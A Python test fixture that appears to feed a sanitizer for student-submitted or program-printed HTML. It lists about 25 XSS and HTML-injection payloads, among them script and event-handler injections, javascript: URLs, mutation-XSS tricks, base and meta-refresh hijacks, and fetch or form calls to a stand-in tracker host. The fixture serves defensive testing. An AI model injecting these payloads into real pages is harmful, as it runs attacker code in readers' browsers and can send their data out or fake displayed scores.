"""What a student may write, or let their code print, to harm who reads it."""

REMOTE = "https://tracker.example/x"
# Each would do something in a page that took it as it is.
HOSTILE = {
    "script": "<script>fetch('https://tracker.example/x')</script>",
    "script in capitals": "<ScRiPt src=//tracker.example></sCrIpT>",
    "script never closed": "<script>document.title = 1",
    "handler": "<img src=x onerror=alert(1)>",
    "handler after a slash": "<img/src=x/onerror=alert(1)>",
    "drawing": "<svg onload=alert(1)><script>alert(1)</script><a href='javascript:alert(1)'><circle r=9 /></a></svg>",
    "formula": "<math><mtext><table><mglyph><style><img src=x onerror=a()></style></mglyph></table></mtext></math>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "address": '<a href="javascript:alert(1)">a</a>',
    "address in disguise": '<a href=" jAvA&#x0a;script&colon;alert(1)">a</a>',
    "address of data": '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://tracker.example/x">',
    "base": '<base href="https://tracker.example/">',
    "style sheet": "<style>@import url(https://tracker.example/x)</style>",
    "style": '<div style="background:url(https://tracker.example/x);position:fixed">over the score</div>',
    "link": '<link rel="stylesheet" href="https://tracker.example/x">',
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="//x"></object><embed src="//x">',
    "form": '<form action="https://tracker.example/x"><input name=a><button formaction="//x">send</button></form>',
    "picture": f'<img src="{REMOTE}"><img srcset="{REMOTE} 2x"><picture><source srcset="{REMOTE}"></picture>',
    "sound": f'<video src="{REMOTE}" poster="{REMOTE}"></video><audio src="{REMOTE}"></audio>',
    "template": "<template><script>alert(1)</script></template>",
    "names": '<h2 id="scores" class="passed" name="x">22 of 22</h2>',
    "comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "end of the page": "</div></main></body></html><script>alert(1)</script>",
    "old attributes": f'<table background="{REMOTE}"><tr><td background="{REMOTE}">a</td></tr></table>',
}
